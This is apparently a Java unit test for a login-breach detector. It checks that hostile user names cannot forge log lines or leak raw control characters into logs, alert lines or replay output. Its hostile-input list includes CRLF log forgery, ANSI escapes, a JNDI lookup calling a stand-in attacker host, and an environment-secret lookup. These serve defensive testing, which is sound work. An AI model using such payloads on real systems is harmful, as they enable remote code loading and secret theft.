package io.breachwatch.detector.topology;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.encoder.PatternLayoutEncoder;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.ConsoleAppender;
import ch.qos.logback.core.OutputStreamAppender;
import ch.qos.logback.core.read.ListAppender;
import io.breachwatch.detector.cli.BreachwatchCli;
import io.breachwatch.detector.demo.AlertLines;
import io.breachwatch.detector.detections.Logins;
import io.breachwatch.schema.Alert;
import io.breachwatch.schema.AuthEvent;
import io.breachwatch.schema.json.EventJson;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.slf4j.LoggerFactory;

/**
 * Log and terminal injection: user names carrying CR/LF with a forged log line, ANSI escapes, C1 controls, bidi
 * overrides and lookup syntax go through the topology, the replay command and the demo's alert lines. Logs are
 * captured with the production encoder (the pattern of {@code logback.xml}): one line per logging event, no raw
 * control character, no record or user name logged at all; alert lines and the replay summary escape them.
 */
class LogInjectionTest {
    /** Anything a terminal or a log reader would act on: C0/C1 controls, format (bidi) characters, separators. */
    private static final Pattern RAW_CONTROL = Pattern.compile("[\\p{Cc}\\p{Cf}\\p{Zl}\\p{Zp}&&[^\\t]]");

    private static final List<String> HOSTILE = List.of(
            "alice\r\n12:00:00.000 INFO  i.b.d.app.DetectorApp - Detector state RUNNING -> ERROR",
            "\u001b[2J\u001b[31mroot\u001b[0m",
            "${jndi:ldap://attacker.invalid/a}",
            "${env:BREACHWATCH_PSEUDONYMIZE_KEY}",
            "bob\u0085eve\u2028mallory\u2029x\u202Eevil\u009b31m",
            "%n%s%d{HH}%ex\u0000\u007f");

    @TempDir
    Path dir;

    private final ByteArrayOutputStream logged = new ByteArrayOutputStream();
    private final ListAppender<ILoggingEvent> events = new ListAppender<>();
    private OutputStreamAppender<ILoggingEvent> capture;
    private Logger root;

    @BeforeEach
    @SuppressWarnings("unchecked")
    void captureLogsWithTheProductionEncoder() throws IOException {
        LoggerContext context = (LoggerContext) LoggerFactory.getILoggerFactory();
        root = context.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
        ConsoleAppender<ILoggingEvent> production = (ConsoleAppender<ILoggingEvent>) root.getAppender("STDERR");
        String pattern = ((PatternLayoutEncoder) production.getEncoder()).getPattern();
        // The pattern in use is the one shipped: src/main/resources/logback.xml, XML-unescaped
        assertThat(Files.readString(Path.of("src/main/resources/logback.xml")).replace("&amp;", "&"))
                .contains("<pattern>" + pattern + "</pattern>");
        PatternLayoutEncoder encoder = new PatternLayoutEncoder();
        encoder.setContext(context);
        encoder.setPattern(pattern);
        encoder.setCharset(StandardCharsets.UTF_8);
        encoder.start();
        capture = new OutputStreamAppender<>();
        capture.setContext(context);
        capture.setEncoder(encoder);
        capture.setOutputStream(logged);
        capture.start();
        events.setContext(context);
        events.start();
        root.addAppender(capture);
        root.addAppender(events);
    }

    @AfterEach
    void stopCapturing() {
        root.detachAppender(capture);
        root.detachAppender(events);
        capture.stop();
        events.stop();
    }

    private List<String> logLines() {
        String text = logged.toString(StandardCharsets.UTF_8);
        return text.isEmpty() ? List.of() : List.of(text.split("\n", -1)).subList(0, text.split("\n", -1).length - 1);
    }

    /** For each hostile name: 10 failures against it from 10 sources (account brute force), 8 from one source. */
    private static List<AuthEvent> attacks() {
        List<AuthEvent> events = new ArrayList<>();
        for (int h = 0; h < HOSTILE.size(); h++) {
            for (int i = 0; i < 10; i++) {
                events.add(Logins.failure("198.51." + h + "." + (10 + i), HOSTILE.get(h),
                        String.format("11:%02d:%02d", h * 5, i * 3)));
            }
            events.addAll(Logins.failures("203.0.113." + h, HOSTILE.get(h), String.format("11:%02d:40", h * 5), 8, 1));
        }
        return events;
    }

    @Test
    void hostileUserNamesThroughTopologyReplayAndAlertLinesLeaveNoRawControlCharacterAndNoNameInLogs()
            throws IOException {
        // Given the attacks, and as canonical JSON lines for the replay, with one line whose unknown field is hostile
        List<AuthEvent> attacks = attacks();
        Path input = dir.resolve("auth\u001b[31m.jsonl");
        List<String> lines = new ArrayList<>(attacks.stream().map(e -> EventJson.strict().writeString(e)).toList());
        lines.add("{" + io.breachwatch.schema.fuzz.Hostile.quote(HOSTILE.get(0) + HOSTILE.get(4)) + ":1}");
        Files.write(input, lines);

        // When they run through the topology and the replay command, and the alerts are printed as the demo does
        List<Alert> alerts;
        try (TopologyHarness bw = new TopologyHarness()) {
            bw.send(attacks);
            alerts = bw.alerts.readValuesToList();
        }
        List<String> alertLines = alerts.stream().map(AlertLines::of).toList();
        ByteArrayOutputStream stderr = new ByteArrayOutputStream();
        PrintStream original = System.err;
        int exit;
        try {
            System.setErr(new PrintStream(stderr, true, StandardCharsets.UTF_8));
            exit = BreachwatchCli.execute("replay", "--progress", "none", "--out", dir.resolve("a.jsonl").toString(),
                    input.toString());
        } finally {
            System.setErr(original);
        }

        // Then every hostile name raised its account brute force, and each alert line is one clean line
        assertThat(alerts).filteredOn(a -> a.ruleId().equals("auth.brute_force.account")).hasSize(HOSTILE.size());
        assertThat(alertLines).hasSize(alerts.size()).allSatisfy(line -> assertThat(line)
                .doesNotContain("\n", "\r").doesNotContainPattern(RAW_CONTROL));
        String all = String.join("\n", alertLines);
        assertThat(all).contains("alice\\u000d\\u000a12:00:00.000 INFO", "\\u001b[2J\\u001b[31mroot",
                "${jndi:ldap://attacker.invalid/a}", "\\u0085eve\\u2028mallory\\u2029x\\u202eevil\\u009b31m");
        // And the replay's summary is one clean line per item, its hostile file name and field escaped
        assertThat(exit).isZero();
        List<String> summary = List.of(stderr.toString(StandardCharsets.UTF_8).split("\n"));
        assertThat(summary).allSatisfy(line -> assertThat(line).startsWith("breachwatch replay: ")
                .doesNotContainPattern(RAW_CONTROL));
        assertThat(summary).anySatisfy(line -> assertThat(line).contains("auth\\u001b[31m.jsonl:" + lines.size()
                + ": invalid_field"));
        // And the logs hold one line per logging event, nothing raw, and no record or user name at all
        List<String> log = logLines();
        assertThat(log).hasSize(events.list.size()).allSatisfy(line -> assertThat(line)
                .doesNotContainPattern(RAW_CONTROL).doesNotContain("attacker.invalid", "alice", "mallory", "root",
                        "BREACHWATCH_PSEUDONYMIZE_KEY", "event_id", "source_ip"));
    }

    @Test
    void theLogPatternWritesHostileTextAsOneLineWithItsLookupsLiteral() {
        org.slf4j.Logger log = LoggerFactory.getLogger("io.breachwatch.detector.app.DetectorApp");

        // When hostile text is logged as an argument and as an exception's message
        for (String hostile : HOSTILE) {
            log.warn("login failed for user {}", hostile);
            log.error("Detector stream thread failed; shutting down", new IllegalStateException("bad field " + hostile,
                    new IllegalArgumentException(hostile)));
        }

        // Then each logging event is exactly one line, with no raw control, format or separator character
        List<String> lines = logLines();
        assertThat(lines).hasSize(2 * HOSTILE.size()).hasSize(events.list.size())
                .allSatisfy(line -> assertThat(line).doesNotContainPattern(RAW_CONTROL));
        // And the forged line stays inside the real one, lookups are literal text, the rest is '?' (an exception's
        // line breaks are ' | '; the pattern leaves a space at the end of a line without one)
        lines = lines.stream().map(String::stripTrailing).toList();
        assertThat(lines.get(0)).endsWith(
                "login failed for user alice??12:00:00.000 INFO  i.b.d.app.DetectorApp - Detector state RUNNING -> ERROR");
        assertThat(lines.get(1)).contains("IllegalStateException: bad field alice | 12:00:00.000 INFO")
                .contains(" | ").contains("Caused by: java.lang.IllegalArgumentException");
        assertThat(lines.get(2)).endsWith("login failed for user ?[2J?[31mroot?[0m");
        assertThat(lines.get(4)).endsWith("login failed for user ${jndi:ldap://attacker.invalid/a}");
        assertThat(lines.get(6)).endsWith("login failed for user ${env:BREACHWATCH_PSEUDONYMIZE_KEY}");
        assertThat(lines.get(8)).endsWith("login failed for user bob?eve?mallory?x?evil?31m");
        assertThat(lines.get(9)).contains("bad field bob?eve?mallory?x?evil?31m");
        assertThat(lines.get(10)).endsWith("login failed for user %n%s%d{HH}%ex??");
    }
}
